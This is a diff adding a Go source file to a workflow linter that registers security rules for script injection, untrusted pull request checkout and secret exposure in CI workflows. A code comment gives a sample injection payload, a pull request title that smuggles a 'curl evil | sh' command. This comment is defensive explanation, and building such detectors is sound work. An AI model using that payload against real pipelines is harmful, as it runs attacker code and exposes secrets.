@@ -0,0 +1,57 @@
+// Copyright 2025 Google LLC
+
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+
+//     https://www.apache.org/licenses/LICENSE-2.0
+
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package lint
+
+import (
+	"testingdashboard/m/v2/security"
+)
+
+func init() {
+	Register(securityRule{security.RuleScriptInjection, "untrusted event data interpolated into run scripts, directly or through env"})
+	Register(securityRule{security.RuleUntrustedCheckout, "pull_request_target, workflow_run and issue_comment jobs that check out pull request code"})
+	Register(securityRule{security.RuleSecretExposure, "secrets and tokens reachable by pull request code in privileged workflows"})
+}
+
+// securityRule reports the findings of one security check. Interpolated
+// values are pasted into the script before the shell parses it, so a pull
+// request title like `"; curl evil | sh #` runs as code; privileged
+// workflows that run pull request code hand their secrets to its author.
+type securityRule struct {
+	name, description string
+}
+
+func (r securityRule) Name() string { return r.name }
+
+func (r securityRule) Description() string { return r.description }
+
+func (r securityRule) Check(p *Pass) {
+	for _, f := range p.securityFindings() {
+		if f.Rule != r.name {
+			continue
+		}
+		sev := SeverityWarning
+		if f.Severity == "error" {
+			sev = SeverityError
+		}
+		p.ReportAt(f.Pos, sev, "%s", f.Message)
+	}
+}
+
+// securityFindings returns the findings of security.Check on the file,
+// running it once for all the rules that report them.
+func (f *File) securityFindings() []security.Finding {
+	f.securityOnce.Do(func() { f.security = security.Check(f.Workflow) })
+	return f.security
+}